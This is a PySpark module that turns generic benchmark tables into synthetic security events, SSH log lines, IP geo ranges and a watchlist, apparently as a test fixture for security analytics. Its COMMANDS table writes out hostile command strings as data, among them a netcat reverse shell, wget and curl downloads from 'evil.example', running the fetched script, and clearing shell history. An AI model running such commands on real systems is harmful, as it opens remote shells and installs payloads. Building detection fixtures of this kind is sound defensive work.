"""The generic ``events`` and ``nation`` tables seen as security data.

A fixed, integer-only projection, so that any SQL engine can restate it.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.clock import bind, rfc3339_text
from ..schema import ACCEPTED_LOGIN, FAILED_LOGIN, PROCESS, conform, micros
from .reference_data import watchlist_from_lines

EPOCH_US = 1_704_067_200_000_000
ASSUMED_YEAR = 2024
EXTRA_WATCHED = "203.0.0.1"
MONTH_NAMES = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# Process name and command by class; the command is head, then
# user_id modulo the given number (none for 0), then tail.
COMMANDS = (
    ("nmap", "nmap -p 1-65535 10.0.0.1", 0, ""),
    ("nc", "nc -e /bin/bash 10.0.0.2", 0, ""),
    ("useradd", "useradd u", 11, ""),
    ("sudo", "sudo su -", 0, ""),
    ("wget", "wget -O /tmp/p", 5, ".sh http://evil.example/p.sh"),
    ("curl", "curl -o /dev/shm/q", 5, " http://evil.example/q"),
    ("crontab", "crontab -l", 0, ""),
    ("python", "python -c pass", 0, ""),
    ("bash", "history -c", 0, ""),
    ("bash", "bash /tmp/p", 5, ".sh"),
    ("bash", "chmod 777 /dev/shm/q", 5, ""),
    ("bash", "ls -la", 0, ""),
)


# The columns in use; naming them saves the job that infers a schema.
SCHEMAS = {
    "events": "event_id long, user_id long, event_type string",
    "nation": "n_nationkey int, n_name string",
}


def _table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.schema(SCHEMAS[name]).parquet(f"{sf_dir}/{name}.parquet")


def security_events(spark: SparkSession, sf_dir: str, stream: bool = False) -> DataFrame:
    """Every row of ``events`` as one security event, as a table or as a stream."""
    raw = _table(spark, sf_dir, "events")
    if stream:
        raw = spark.readStream.schema(SCHEMAS["events"]).option("maxFilesPerTrigger", 1000).parquet(
            f"{sf_dir}/events.parquet*"  # a pattern, since a stream over a plain path needs a directory
        )
    kind = f"""CASE WHEN event_type IN ('error', 'signup') THEN '{FAILED_LOGIN}'
                    WHEN event_type = 'purchase' THEN '{ACCEPTED_LOGIN}'
                    ELSE '{PROCESS}' END"""
    # Twelve rows, fixed above.
    values = ", ".join(f"({i}, '{name}', '{head}', {mod}, '{tail}')" for i, (name, head, mod, tail) in enumerate(COMMANDS))
    templates = spark.sql(f"SELECT * FROM VALUES {values} AS t(cls, name, head, modulus, tail)")
    base = raw.selectExpr(
        "event_id",
        "user_id",
        "event_id div 5000 AS b",
        "CAST((event_id * 31 + user_id) % 12 AS INT) AS cls",
        f"{kind} AS kind",
    ).join(F.broadcast(templates), "cls")
    process, accepted = f"kind = '{PROCESS}'", f"kind = '{ACCEPTED_LOGIN}'"
    digit = "CASE WHEN modulus > 0 THEN CAST(user_id % modulus AS STRING) ELSE '' END"
    shaped = base.selectExpr(
        "event_id AS seq",
        "'host' || b AS host",
        f"timestamp_micros({EPOCH_US} + event_id * 1000000) AS ts",
        "kind AS event_type",
        f"CASE WHEN {process} THEN '127.0.0.1' ELSE '203.0.' || (b % 256) || '.' || (user_id % 4) END AS source",
        f"CASE WHEN NOT {process} THEN CASE WHEN event_id % 2 = 0 THEN 'root' ELSE 'u' || (event_id * 7919 % 11) END END AS user",
        f"CASE WHEN {accepted} THEN CAST(1000 + event_id % 40 AS STRING) END AS sshd_pid",
        f"CASE WHEN {process} THEN CAST(user_id % 2 * 1000 AS STRING) END AS uid",
        f"CASE WHEN {process} THEN name END AS process_name",
        f"CASE WHEN {process} THEN CAST(1000 + event_id % 40 AS STRING) END AS pid",
        f"CASE WHEN {process} THEN CAST(1000 + (event_id * 7 + user_id) % 40 AS STRING) END AS ppid",
        f"CASE WHEN {process} THEN '0' END AS return_code",
        f"CASE WHEN {process} THEN head || {digit} || tail END AS command",
    )
    return conform(shaped)


def geo_ranges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """203.0.x.0/24 belongs to nation x modulo 25, for x in 0..255."""
    nation = _table(spark, sf_dir, "nation")
    blocks = F.sequence(F.col("n_nationkey"), F.lit(255), F.lit(25))
    start = (F.lit(203 * 256).cast("long") * 65536) + F.col("x") * 256
    return nation.withColumn("x", F.explode(blocks)).select(
        start.alias("start_ip"),
        (start + 255).alias("end_ip"),
        F.col("n_name").alias("country"),
        F.lower("n_name").alias("country_name"),
        F.concat(F.lit("City "), F.col("x").cast("string")).alias("city"),
        (F.col("n_nationkey") * 1.5).alias("lat"),
        (F.col("x") * 0.25).alias("lon"),
    )


def watched(spark: SparkSession) -> DataFrame:
    """The built-in watchlist plus one address of the fixture."""
    from .reference_data import read_watchlist

    extra = watchlist_from_lines(spark.sql(f"SELECT '{EXTRA_WATCHED}' AS value"))
    return read_watchlist(spark).unionByName(extra).distinct()


def log_lines(events: DataFrame) -> DataFrame:
    """Events rendered as log text; every accepted login is followed by lines that are no events."""
    events, iso = bind(events, {"iso": rfc3339_text(micros())}), F.col("iso")
    months = F.array(*[F.lit(m) for m in MONTH_NAMES])
    month = F.element_at(months, F.substring(iso, 6, 2).cast("int"))
    stamp = F.concat_ws(" ", month, F.substring(iso, 9, 2), F.substring(iso, 12, 8))
    port = (F.lit(1024) + F.pmod("seq", F.lit(60000))).cast("string")
    pid = F.coalesce("sshd_pid", (F.lit(1000) + F.pmod("seq", F.lit(9000))).cast("string"))

    def login(word: str):
        return F.concat(
            stamp, F.lit(" my-server sshd["), pid, F.lit(f"]: {word} password for "), F.col("user"),
            F.lit(" from "), F.col("source"), F.lit(" port "), port, F.lit(" ssh2"),
        )

    line = (
        F.when(F.col("event_type") == FAILED_LOGIN, login("Failed"))
        .when(F.col("event_type") == ACCEPTED_LOGIN, login("Accepted"))
        .otherwise(F.concat_ws(" ", iso, "uid", "process_name", "pid", "ppid", "return_code", "command"))
    )
    noise = F.array(
        F.lit(""),
        F.lit("Jan 01 00:00:00 my-server cron[1]: session opened"),
        F.lit("Xyz 01 00:00:00 my-server sshd[1]: Failed password for root from 203.0.0.9 port 1 ssh2"),
        F.lit("2024-13-01T00:00:00Z 0 ls 1 1 0 ls"),
    )
    lines = F.when(F.col("event_type") == ACCEPTED_LOGIN, F.concat(F.array(line), noise)).otherwise(F.array(line))
    return events.select("seq", "host", F.explode(lines).alias("line"))
